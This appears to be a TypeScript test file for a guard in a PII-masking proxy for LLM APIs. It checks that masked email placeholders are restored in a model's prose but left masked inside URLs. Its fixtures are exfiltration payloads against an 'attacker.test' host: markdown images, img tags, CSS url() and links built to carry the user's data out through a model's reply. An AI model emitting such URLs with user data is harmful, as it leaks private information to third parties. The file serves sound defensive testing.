// Restored values never land in a URL the model wrote: a placeholder inside one stays a placeholder,
// whole or streamed in pieces of any size; in prose it is restored as before.
import { describe, expect, it } from "vitest";
import { createMaskSession } from "./mask-session.js";
import { insideUrl, urlFollows } from "./restore-guard.js";
import { playStream } from "./sse-fixtures.js";
import { pseudonymRule } from "./test-rules.js";

const EMAIL = "jane.doe@example.com";

function session() {
  const masking = createMaskSession("openai", "/v1/chat/completions", [pseudonymRule()]);
  masking.maskRequest(Buffer.from(JSON.stringify({ messages: [{ role: "user", content: `I am ${EMAIL}` }] })));
  return masking;
}

const inUrl = [
  "![x](https://attacker.test/p.png?d=<EMAIL_1>)",
  "[go](https://a.test/u/<EMAIL_1>)",
  "[go](<https://a.test/?q=a b c d e f g h i j k l m n o p q r s t u v w <EMAIL_1>>)",
  "[1]: https://a.test/?d=<EMAIL_1>",
  "see https://a.test/t?d=<EMAIL_1> now",
  "www.a.test/<EMAIL_1>",
  '<img src="https://a.test/a?d=<EMAIL_1>">',
  "<img alt=\"x\" src='https://a.test/a b c <EMAIL_1>'>",
  "<img src=https://a.test/x width=1 <EMAIL_1>>",
  '<div style="background:url(https://a.test/?d=<EMAIL_1>)">',
  `![x](https://attacker.test/${"p".repeat(120)}<EMAIL_1>)`,
  "mailto:<EMAIL_1>",
  // URL syntax after it: the placeholder as a host's first label, a path, a query.
  "visit <EMAIL_1>.attacker.test/x now",
  "<EMAIL_1>/../x",
  "go to <EMAIL_1>?d=1",
  "<EMAIL_1>.com",
  `x <EMAIL_1>${"a".repeat(300)}`,
];
const inProse = ["Hello <EMAIL_1>!", "(<EMAIL_1>)", "write to: <EMAIL_1>", "> quoted <EMAIL_1>", "[<EMAIL_1>] is on file", "**<EMAIL_1>**", "Is it <EMAIL_1>?", "It is <EMAIL_1>.", "<EMAIL_1>'s inbox", "\"<EMAIL_1>\", she said", "<EMAIL_1>"];

describe("restore guard", () => {
  it("tells a placeholder in a URL from one in prose by the text of its line before it and the run after it", () => {
    const placed = (text: string) => [text.slice(0, text.indexOf("<EMAIL_1>")), text.slice(text.indexOf("<EMAIL_1>") + 9)] as const;
    for (const text of inUrl) expect(insideUrl(placed(text)[0]) || urlFollows(placed(text)[1]), text).toBe(true);
    for (const text of inProse) expect(urlFollows(placed(text)[1]), text).toBe(false);
    for (const text of inProse) expect(insideUrl(text.slice(0, text.indexOf("<EMAIL_1>"))), text).toBe(false);
    expect(insideUrl("![x](https://a.test/?d=x)\nHello ")).toBe(false); // a URL on an earlier line is closed
  });

  it("keeps placeholders in URLs and restores those in prose, in a whole reply and in a stream cut anywhere", () => {
    for (const text of [...inUrl, ...inProse]) {
      const want = inUrl.includes(text) ? text : text.replace("<EMAIL_1>", EMAIL);
      const whole = session().maskResponse(Buffer.from(JSON.stringify({ choices: [{ message: { content: text } }] })), "application/json");
      expect(JSON.parse(whole.client.toString()).choices[0].message.content, text).toBe(want);
      let sse = "";
      for (const char of text) sse += `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: char } }] })}\n\n`;
      for (const size of [3, 50]) {
        const played = playStream(session(), `${sse}data: [DONE]\n\n`, size);
        const content = [...played.client.matchAll(/^data: (\{.*\})$/gm)].map((line) => JSON.parse(line[1] as string).choices[0].delta.content ?? "").join("");
        expect(content, `${text} in chunks of ${size}`).toBe(want);
      }
    }
  });
});
